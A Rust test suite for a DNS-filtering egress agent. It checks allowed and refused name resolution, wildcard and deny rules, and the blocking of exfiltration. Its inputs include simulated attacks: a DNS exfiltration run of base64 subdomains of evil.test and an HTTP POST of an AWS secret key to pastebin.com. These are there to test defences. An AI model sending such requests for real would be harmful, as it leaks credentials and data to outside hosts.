//! Only allowed names are resolved, at once and every time: the race, the refusals, wildcards
//! and the seed's case 5.

use std::collections::BTreeSet;
use std::time::Duration;

use egress_tests::dnsmasq::Dnsmasq;
use egress_tests::log::{blocked, refused, verdict_count};
use egress_tests::probe::rcode;
use egress_tests::server::{assert_arrived, assert_nothing_arrived};
use libc::EPERM;

use super::{
    agent, assert_forwarded, assert_not_forwarded, connections_with, finished, policy,
    wait_connections,
};
use crate::{ip, scenario};

// --- 1. No race ------------------------------------------------------------------------------

/// A workload that connects at once after each lookup always gets through: 350 lookups of
/// names never seen before, each answered with an address never allowed before (the
/// wildcard cannot be resolved in advance), each followed at once by a connection to that
/// address. Over UDP, TCP, an unconnected socket to a stub-resolver address on loopback, and
/// IPv6; the workload sees every reply come from the address it asked.
#[test]
fn an_allowed_name_resolves_and_connects_at_once_every_time() {
    let mut config = Dnsmasq::config();
    for i in 0..200 {
        config = config.record(
            &format!("u{i}.race.example.test"),
            ip(&format!("198.18.1.{}", i + 1)),
        );
    }
    for i in 0..50 {
        config = config
            .record(
                &format!("t{i}.race.example.test"),
                ip(&format!("198.18.2.{}", i + 1)),
            )
            .record(
                &format!("s{i}.race.example.test"),
                ip(&format!("198.18.3.{}", i + 1)),
            )
            .record(
                &format!("v{i}.race.example.test"),
                ip(&format!("fd00:e9:1::{:x}", i + 1)),
            );
    }
    let Some(tb) = scenario()
        .remote_net("198.18.1.0/24")
        .remote_net("198.18.2.0/24")
        .remote_net("198.18.3.0/24")
        .remote_net("fd00:e9:1::/64")
        .tcp("0.0.0.0:8443")
        .tcp("[::]:8444")
        .upstream(config)
        .build()
    else {
        return;
    };
    let [l4, l6] = tb.listeners();
    let dns = tb.upstream();
    let policy = policy().allow_wildcard("race.example.test", &[8443, 8444], &["tcp"]);
    let before = "connect tcp4 198.18.1.1 8443";
    let udp =
        "resolve udp4 198.18.0.2 u{i}.race.example.test A repeat 200 then-connect tcp4 8443 u";
    let tcp = "resolve tcp4 198.18.0.2 t{i}.race.example.test A repeat 50 then-connect tcp4 8443 t";
    let stub = "resolve udp4-sendto 127.0.0.53 s{i}.race.example.test A repeat 50 then-connect tcp4 8443 s";
    let v6 =
        "resolve udp6 fd00:e9::2 v{i}.race.example.test AAAA repeat 50 then-connect tcp6 8444 v";
    let never = "connect tcp4 198.18.1.250 8443";
    let out = finished(
        &tb,
        agent(&tb, &policy)
            .timeout(Duration::from_secs(120))
            .args([before, udp, tcp, stub, v6, never]),
    );
    out.assert_errno(before, EPERM);
    for (op, n, from, last) in [
        (udp, 200, "198.18.0.2:53", "198.18.1.200"),
        (tcp, 50, "198.18.0.2:53", "198.18.2.50"),
        (stub, 50, "127.0.0.53:53", "198.18.3.50"),
        (v6, 50, "[fd00:e9::2]:53", "fd00:e9:1::32"),
    ] {
        let r = out.assert_answer(op, rcode::NOERROR, &[last]);
        assert_eq!(r.count, Some(n), "`{op}`\n{}", out.describe());
        out.assert_from(op, from);
    }
    // An address in the same range that no answer named stays closed.
    out.assert_errno(never, EPERM);
    assert_eq!(wait_connections(l4, 300), 300, "{}", out.describe());
    assert_eq!(wait_connections(l6, 50), 50, "{}", out.describe());
    assert_eq!(
        (
            connections_with(l4, b"u"),
            connections_with(l4, b"t"),
            connections_with(l4, b"s"),
            connections_with(l6, b"v"),
        ),
        (200, 50, 50, 50)
    );
    let names: BTreeSet<String> = dns
        .queries_at_or_below("race.example.test")
        .into_iter()
        .map(|q| q.name)
        .collect();
    assert_eq!(names.len(), 350, "names the upstream resolver was asked");
    // The allowed resolver and a local stub are not unauthorized resolvers; the upstream's
    // IPv6 address is not in allowed_resolvers, so the fifty queries sent there are.
    let flagged = blocked(&out.stderr, "dns_unauthorized_resolver");
    assert!(
        !flagged.is_empty() && flagged.iter().all(|e| e["dst.ip"] == "fd00:e9::2"),
        "{flagged:#?}"
    );
    assert_eq!(verdict_count(&out.stderr, "dns_unauthorized_resolver"), 50);
}

// --- 2. Only allowed names are resolved -------------------------------------------------------

/// A name the policy does not allow gets NXDOMAIN from the proxy, over UDP, TCP and IPv6,
/// and never reaches the upstream server; neither do random subdomains of it (the DNS
/// exfiltration channel). An exact host allows that name only, in any case and with a
/// trailing dot; an allowed name's non-address query gets NOERROR with no records and is not
/// forwarded either. Each refusal is logged.
#[test]
fn a_name_the_policy_does_not_allow_gets_nxdomain_and_is_never_forwarded() {
    let Some(tb) = scenario()
        .tcp("198.18.0.10:8443")
        .tcp("198.18.0.11:8443")
        .upstream(
            Dnsmasq::config()
                .record("api.example.test", ip("198.18.0.10"))
                .record("evil.test", ip("198.18.0.11")),
        )
        .build()
    else {
        return;
    };
    let [api, evil] = tb.listeners();
    let dns = tb.upstream();
    let policy = policy().allow_host("api.example.test", &[8443], &["tcp"]);
    let udp = "resolve udp4 198.18.0.2 evil.test A";
    let tcp = "resolve tcp4 198.18.0.2 evil.test A";
    let v6 = "resolve udp6 fd00:e9::2 evil.test AAAA";
    let exfil = "resolve udp4 198.18.0.2 c2VjcmV0LXtpfQ-{i}.evil.test A repeat 100";
    let suffix_trick = "resolve udp4 198.18.0.2 api.example.test.evil.test A";
    let below_exact = "resolve udp4 198.18.0.2 x.api.example.test A";
    let txt = "resolve udp4 198.18.0.2 api.example.test TXT";
    let allowed = "resolve udp4 198.18.0.2 API.Example.Test. A then-connect tcp4 8443 allowed";
    let evil_addr = "connect tcp4 198.18.0.11 8443";
    let out = finished(
        &tb,
        agent(&tb, &policy).args([
            udp,
            tcp,
            v6,
            exfil,
            suffix_trick,
            below_exact,
            txt,
            allowed,
            evil_addr,
        ]),
    );
    for op in [udp, tcp, v6, suffix_trick, below_exact] {
        out.assert_nxdomain(op);
    }
    let r = out.assert_nxdomain(exfil);
    assert_eq!(r.count, Some(100), "{}", out.describe());
    out.assert_answer(txt, rcode::NOERROR, &[]);
    out.assert_answer(allowed, rcode::NOERROR, &["198.18.0.10"]);
    out.assert_errno(evil_addr, EPERM);
    assert_arrived(api, b"allowed", &out);
    assert_nothing_arrived(&[evil], &out);
    assert_not_forwarded(dns, "evil.test", &out);
    assert_not_forwarded(dns, "x.api.example.test", &out);
    assert!(
        dns.queried().iter().all(|q| q.qtype != "TXT"),
        "a TXT query was forwarded: {:?}",
        dns.queried()
    );
    // The upstream log does work: the allowed name was asked for.
    assert_forwarded(dns, "api.example.test", &out);
    let lines = refused(&out.stderr, "evil.test");
    assert!(
        !lines.is_empty(),
        "no refusal line for evil.test\n{}",
        out.stderr
    );
    // A refused name is a blocked attempt, logged like a refused connect.
    let l = &lines[0];
    assert_eq!(l["event"], "egress_blocked", "{l}");
    assert_eq!(l["level"], "WARN", "{l}");
    assert_eq!(l["reason"], "dns_name_not_allowed", "{l}");
    assert_eq!(l["result"], "not_allowed", "{l}");
    assert_eq!(l["dns.qtype"], "A", "{l}");
    assert!(l["policy"].as_str().is_some_and(|p| !p.is_empty()), "{l}");
}

/// `--dns-refusal refused`: the same refusal as REFUSED instead of NXDOMAIN, still never
/// forwarded.
#[test]
fn the_refusal_can_be_refused_instead_of_nxdomain() {
    let Some(tb) = scenario()
        .upstream(
            Dnsmasq::config()
                .record("api.example.test", ip("198.18.0.10"))
                .record("evil.test", ip("198.18.0.11")),
        )
        .build()
    else {
        return;
    };
    let dns = tb.upstream();
    let policy = policy().allow_host("api.example.test", &[8443], &["tcp"]);
    let op = "resolve udp4 198.18.0.2 evil.test A";
    let out = finished(
        &tb,
        agent(&tb, &policy)
            .agent_arg("--dns-refusal")
            .agent_arg("refused")
            .arg(op),
    );
    out.assert_answer(op, rcode::REFUSED, &[]);
    assert_not_forwarded(dns, "evil.test", &out);
}

// --- 6. Wildcards -------------------------------------------------------------------------

/// `*.example.test` matches any name below example.test at any depth, case-insensitively and
/// with a trailing dot, and never example.test itself, example.test.evil.test or
/// notexample.test; denied hosts (exact and wildcard) win over it. Nothing refused reaches
/// the upstream server, and only the answered address opens.
#[test]
fn a_wildcard_allows_names_below_it_and_nothing_else() {
    let Some(tb) = scenario()
        .tcp("198.18.0.10:8443")
        .tcp("198.18.0.11:8443")
        .tcp("198.18.0.12:8443")
        .tcp("198.18.0.13:8443")
        .tcp("198.18.0.14:8443")
        .upstream(
            Dnsmasq::config()
                .record("example.test", ip("198.18.0.12"))
                .record("a.b.example.test", ip("198.18.0.10"))
                .record("evil.test", ip("198.18.0.11"))
                .record("notexample.test", ip("198.18.0.13"))
                .record("secret.example.test", ip("198.18.0.14"))
                .record("internal.example.test", ip("198.18.0.14")),
        )
        .build()
    else {
        return;
    };
    let [deep, others @ ..]: [_; 5] = tb.listeners();
    let dns = tb.upstream();
    let policy = policy()
        .allow_wildcard("example.test", &[8443], &["tcp"])
        .deny_host("secret.example.test")
        .deny_host("*.internal.example.test");
    let before = "connect tcp4 198.18.0.10 8443";
    let deep_name = "resolve udp4 198.18.0.2 a.b.example.test A then-connect tcp4 8443 deep";
    let deeper = "resolve udp4 198.18.0.2 X.A.B.Example.TEST. A";
    let apex = "resolve udp4 198.18.0.2 example.test A";
    let evil = "resolve udp4 198.18.0.2 example.test.evil.test A";
    let no_dot = "resolve udp4 198.18.0.2 notexample.test A";
    let denied = "resolve udp4 198.18.0.2 secret.example.test A";
    let denied_wild = "resolve tcp4 198.18.0.2 db.internal.example.test A";
    let ops = [
        before,
        deep_name,
        deeper,
        apex,
        evil,
        no_dot,
        denied,
        denied_wild,
    ];
    let mut closed = vec![];
    for a in ["198.18.0.11", "198.18.0.12", "198.18.0.13", "198.18.0.14"] {
        closed.push(format!("connect tcp4 {a} 8443"));
    }
    let out = finished(&tb, agent(&tb, &policy).args(ops).args(&closed));
    out.assert_errno(before, EPERM);
    out.assert_answer(deep_name, rcode::NOERROR, &["198.18.0.10"]);
    out.assert_answer(deeper, rcode::NOERROR, &["198.18.0.10"]);
    for op in [apex, evil, no_dot, denied, denied_wild] {
        out.assert_nxdomain(op);
    }
    for op in &closed {
        out.assert_errno(op, EPERM);
    }
    assert_arrived(deep, b"deep", &out);
    assert_nothing_arrived(&others, &out);
    assert_forwarded(dns, "a.b.example.test", &out);
    // secret.example.test is left out: the agent itself resolves denied exact hosts (to deny
    // their addresses), so the upstream log holds its own queries for that name; the proxy's
    // refusal shows in the dns_refused line below.
    for name in ["evil.test", "notexample.test", "internal.example.test"] {
        assert_not_forwarded(dns, name, &out);
    }
    assert!(
        dns.queries_for("example.test").is_empty(),
        "the wildcard's apex was forwarded: {:?}",
        dns.queried()
    );
    for (name, result) in [
        ("example.test", "not_allowed"),
        ("secret.example.test", "denied"),
        ("db.internal.example.test", "denied"),
    ] {
        let lines = refused(&out.stderr, name);
        assert!(
            lines.iter().any(|l| l["result"] == result),
            "no dns_refused line for {name} with result {result}: {lines:?}\n{}",
            out.stderr
        );
    }
}

// --- 9. The seed's test case 5 ------------------------------------------------------------

/// Seed case 5, "Data exfiltration: POST to pastebin.com -> blocked": the name does not
/// resolve for the workload (and is not asked upstream), and the address the real server
/// would give opens neither on 443 nor on 80.
#[test]
fn seed_case_5_a_post_to_pastebin_is_blocked() {
    let Some(tb) = scenario()
        .tcp("198.18.0.10:443")
        .tcp("198.18.0.67:443")
        .tcp("198.18.0.67:80")
        .upstream(
            Dnsmasq::config()
                .record("api.company.test", ip("198.18.0.10"))
                .record("pastebin.com", ip("198.18.0.67")),
        )
        .build()
    else {
        return;
    };
    let [api, paste443, paste80] = tb.listeners();
    let dns = tb.upstream();
    let policy = policy()
        .allow_host("api.company.test", &[443], &["https"])
        .block_doh(true)
        .block_dot(true);
    let resolve = "resolve udp4 198.18.0.2 pastebin.com A";
    let resolve_tcp = "resolve tcp4 198.18.0.2 pastebin.com A";
    let post = "send tcp4 198.18.0.67 443 POST /api/api_post.php HTTP/1.1\r\nHost: pastebin.com\r\n\r\napi_paste_code=AWS_SECRET_ACCESS_KEY";
    let post80 = "send tcp4 198.18.0.67 80 POST /api/api_post.php HTTP/1.1";
    let allowed = "resolve udp4 198.18.0.2 api.company.test A then-connect tcp4 443 GET /v1/status";
    let out = finished(
        &tb,
        agent(&tb, &policy).args([resolve, resolve_tcp, post, post80, allowed]),
    );
    out.assert_nxdomain(resolve);
    out.assert_nxdomain(resolve_tcp);
    out.assert_errno(post, EPERM);
    out.assert_errno(post80, EPERM);
    out.assert_answer(allowed, rcode::NOERROR, &["198.18.0.10"]);
    assert_arrived(api, b"GET /v1/status", &out);
    assert_nothing_arrived(&[paste443, paste80], &out);
    assert_not_forwarded(dns, "pastebin.com", &out);
    assert!(
        !refused(&out.stderr, "pastebin.com").is_empty(),
        "{}",
        out.stderr
    );
}
